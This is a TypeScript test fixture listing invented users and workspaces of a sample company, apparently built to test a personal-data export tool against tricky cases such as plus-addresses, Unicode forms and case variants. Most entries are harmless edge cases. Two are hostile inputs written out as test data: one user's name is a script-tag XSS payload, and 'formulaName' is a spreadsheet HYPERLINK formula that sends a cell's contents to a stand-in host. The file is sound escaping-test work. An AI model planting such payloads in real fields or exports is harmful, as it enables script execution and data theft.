/**
 * The cast of the sample company: every person and workspace that is a trap for somebody who searches carelessly, by
 * name, so that tests and the manual can say who they mean. All are invented; e-mail domains end in .example or .test,
 * IP addresses are from the documentation ranges (RFC 5737, RFC 3849), telephone numbers begin with +372 0, which
 * nobody has. examples/sample-company/README.md tells the same in prose.
 */

export interface CastMember {
  /** `users.id`; null for people without an account. */
  readonly userId: string | null;
  readonly email: string;
  readonly name: string;
  /** `workspaces.id` of the workspace this member belongs to first. */
  readonly workspaceId: string | null;
}

export const cast = {
  /** The subject of the `npm start` run: owner of a company workspace, with rows in every collection, alone on her address. */
  sampleSubject: { userId: '1001', email: 'liis.ounapuu@kuukala.example', name: 'Liis Õunapuu', workspaceId: '501' },
  /** Held `manager@kuukala.example` until the end of August 2026. */
  managerBefore: { userId: '1002', email: 'peeter.paju@kuukala.example', name: 'Peeter Paju', workspaceId: '501' },
  /** Holds `manager@kuukala.example` since 1 September 2026. */
  managerNow: { userId: '1003', email: 'manager@kuukala.example', name: 'Kaisa Lill', workspaceId: '501' },
  /** Works beside the sample subject on shared playlists; nothing of hers may be in Liis' package. */
  colleague: { userId: '1004', email: 'merle.mand@kuukala.example', name: 'Merle Mänd', workspaceId: '501' },
  /** One account that a whole reception uses. */
  sharedMailbox: { userId: '1005', email: 'info@udusild.example', name: 'Udusilla vastuvõtt', workspaceId: '502' },
  /** Contact on a company's invoices without owning it: gets the contact fields, not the invoices. */
  companyContact: { userId: '1006', email: 'priit.pliiats@udusild.example', name: 'Priit Pliiats', workspaceId: '502' },
  /** With {@link cast.officeSecond} behind one office address, and both on the shared mailbox. */
  officeFirst: { userId: '1007', email: 'gerda.ginkgo@udusild.example', name: 'Gerda Ginkgo', workspaceId: '502' },
  officeSecond: { userId: '1008', email: 'siim.sibul@udusild.example', name: 'Siim Sibul', workspaceId: '502' },
  /** Owner of the hotel. */
  hotelOwner: { userId: '1009', email: 'ulle.oobik@udusild.example', name: 'Ülle Ööbik', workspaceId: '502' },
  /** The address without a plus. */
  plusBase: { userId: '1010', email: 'jaan@rebane.example', name: 'Jaan Rebane', workspaceId: '503' },
  /** The same address with a plus: another account, and a namesake. */
  plusMusic: { userId: '1011', email: 'jaan+muusika@rebane.example', name: 'Jaan Rebane', workspaceId: '503' },
  /** The same address with another plus: another person. */
  plusInvoices: { userId: '1012', email: 'jaan+arved@rebane.example', name: 'Jaana Rebane', workspaceId: '503' },
  /** A sole trader: the workspace, devices, play log and invoices are her own. */
  soleTrader: { userId: '1013', email: 'helmi@hobe.example', name: 'Helmi Hõbe', workspaceId: '504' },
  /** Name and address in composed Unicode (NFC). */
  composed: {
    userId: '1014',
    email: 't\u00f5nu@p\u00f5hjatuul.example',
    name: 'T\u00f5nu P\u00f5der',
    workspaceId: '505',
  },
  /** Looks the same, decomposed (NFD): another account. */
  decomposed: {
    userId: '1015',
    email: 'to\u0303nu@po\u0303hjatuul.example',
    name: 'To\u0303nu Po\u0303der',
    workspaceId: '505',
  },
  /** Her address is the end of the next one's and the beginning of the one after it. */
  substringShort: { userId: '1016', email: 'ann@saar.example', name: 'Ann Saar', workspaceId: '506' },
  substringLong: { userId: '1017', email: 'joann@saar.example', name: 'Joann Saar', workspaceId: '506' },
  substringDomain: { userId: '1018', email: 'ann@saar.example.test', name: 'Ann Saar-Test', workspaceId: '514' },
  /** Owner of his own sole trader workspace and member of the sports club's. */
  twoWorkspaces: { userId: '1019', email: 'rasmus@randur.example', name: 'Rasmus Rändur', workspaceId: '507' },
  /** Two accounts on one address in different case: a bar's owner and a sole trader. One person or two? A person decides. */
  caseUpper: { userId: '1020', email: 'Mari.Tamm@kask.example', name: 'Mari Tamm', workspaceId: '508' },
  caseLower: { userId: '1021', email: 'mari.tamm@kask.example', name: 'M. Tamm', workspaceId: '509' },
  /** A name that runs where it is not escaped, in a company whose name is a spreadsheet formula. */
  injection: {
    userId: '1022',
    email: "o'neil&co@kuld.example",
    name: '<script>alert("habeas")</script> O\'Neil',
    workspaceId: '510',
  },
  /** Author of playlists that colleagues go on using. */
  playlistAuthor: { userId: '1023', email: 'triin@trumm.example', name: 'Triin Trumm', workspaceId: '511' },
  /** Emoji in the name, in settings and in a playlist, joined and flagged. */
  emoji: { userId: '1024', email: 'katlin@trumm.example', name: 'Kätlin 🎧 Kuusk', workspaceId: '511' },
  /** Every Estonian letter, in the address too. A sole trader. */
  estonian: { userId: '1025', email: 'šarlotte@žürii.example', name: 'Šarlotte Žürii-Äärõue', workspaceId: '512' },
  /** Left her employer; her account is closed, the workspace goes on. */
  formerMember: { userId: '1026', email: 'viivi.vaher@varahommik.example', name: 'Viivi Vaher', workspaceId: '515' },
  /** On trial; never became a customer. */
  trialUser: { userId: '1027', email: 'oskar@ooter.example', name: 'Oskar Ooter', workspaceId: '520' },
  /** Text that is easily taken for something else: `NULL`, `\N`, tabs, line ends, control characters. */
  literalNull: { userId: '1028', email: 'null@tuhi.example', name: 'NULL', workspaceId: '516' },
  /** A lead: known by a marketing consent only. */
  lead: { userId: null, email: 'leena.lead@huviline.test', name: 'Leena Lead', workspaceId: null },
  /** Invited once, never came: known by an invitation only. */
  invitee: { userId: null, email: 'kutsutud.kalju@kuukala.example', name: 'Kalju', workspaceId: null },
  /** An employee whom the café entered into its rota: held as processor only. */
  staffOnly: { userId: null, email: 'brita.barista@kuukala.example', name: 'Brita Barista', workspaceId: '501' },
  /** Only in the server logs, as an address in a query string. */
  logsOnly: { userId: null, email: 'kadri.klikk@kulastaja.test', name: 'Kadri Klikk', workspaceId: null },
  /** Nowhere at all. */
  unknown: { userId: null, email: 'tundmatu.isik@eikuskil.test', name: 'Tundmatu Isik', workspaceId: null },
} as const satisfies Record<string, CastMember>;

/**
 * The row of `users` that stands for everybody who was erased, where a row must name somebody: nobody's, hence no member
 * of the cast, and the only account that belongs to no workspace.
 */
export const tombstone = { userId: '1', email: 'kustutatud@naidisheli.example', name: 'Kustutatud kasutaja' } as const;

/** The address that passed from one employee to the next, and the moment of it. */
export const handedOn = { email: 'manager@kuukala.example', at: '2026-08-31T21:00:00.000Z' } as const;

/** The office address behind which several employees of the hotel sit. */
export const officeIp = '203.0.113.44';

/** Workspaces with a part to play. */
export const workspaces = {
  /** The sample subject's café: a company, which also keeps its staff rota with us. */
  cafe: '501',
  hotel: '502',
  /** Sole trader with invoices. */
  silversmith: '504',
  sportsClub: '506',
  wanderer: '507',
  /** The company whose name is a formula. */
  formula: '510',
  /** Foreign companies: reverse charge. */
  finnish: '518',
  latvian: '519',
  trial: '520',
} as const;

/** A workspace name that a spreadsheet would run. */
export const formulaName = '=HYPERLINK("http://kuri.test/?x="&A1,"Kuld OÜ")';

/** First id of the play log and of the security log; from here doubles can no longer tell neighbours apart. */
export const beyondDoubles = 9_007_199_254_740_993n;
